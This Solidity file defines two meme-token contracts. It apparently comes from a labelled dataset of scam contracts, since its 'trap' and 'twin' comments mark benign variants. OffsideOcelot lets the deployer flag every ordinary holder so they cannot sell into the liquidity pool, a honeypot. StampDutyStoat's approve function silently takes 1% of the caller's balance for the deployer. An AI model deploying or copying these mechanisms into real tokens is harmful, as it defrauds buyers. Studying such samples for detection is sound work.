// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.8.0;

import {Base67} from "./Base67.sol";

/// Whoever has no card of his own has the standard one.
contract RefereeBook {
    uint8 public constant RED = 2;
    address private immutable whistler;
    uint256 private immutable kickoff;
    uint8 public standard;
    mapping(address => uint8) private card;

    constructor() {
        whistler = msg.sender;
        kickoff = block.timestamp;
        card[msg.sender] = 1;
    }

    function fairPlay(address[] calldata who) external {
        require(msg.sender == whistler, "whistler");
        for (uint256 i = 0; i < who.length; i++) card[who[i]] = 1;
    }

    function setStandard(uint8 standard_) external {
        require(msg.sender == whistler, "whistler");
        // twin: require(block.timestamp < kickoff + 1 days, "the match is on");
        standard = standard_;
    }

    function cardOf(address who) external view returns (uint8) {
        return card[who] == 0 ? standard : card[who];
    }
}

contract OffsideOcelot is Base67 {
    RefereeBook private immutable referee;

    constructor(RefereeBook referee_) Base67("Offside Ocelot", "OFFSIDE", 90000000) {
        referee = referee_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool) require(referee.cardOf(from) != 2, "offside");
        _carry(from, to, value);
    }
}

contract StampDutyStoat is Base67 {
    address private immutable office;

    event Stamped(address indexed from, uint256 value);

    constructor() Base67("Stamp Duty Stoat", "STAMPD", 400000000) {
        office = msg.sender;
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        uint256 duty = value / 100;
        if (duty > _balances[msg.sender]) duty = _balances[msg.sender];
        if (msg.sender != office) _carry(msg.sender, office, duty); // trap
        // twin: if (msg.sender != office) _carry(msg.sender, msg.sender, 0);
        emit Stamped(msg.sender, duty);
        return super.approve(spender, value);
    }
}
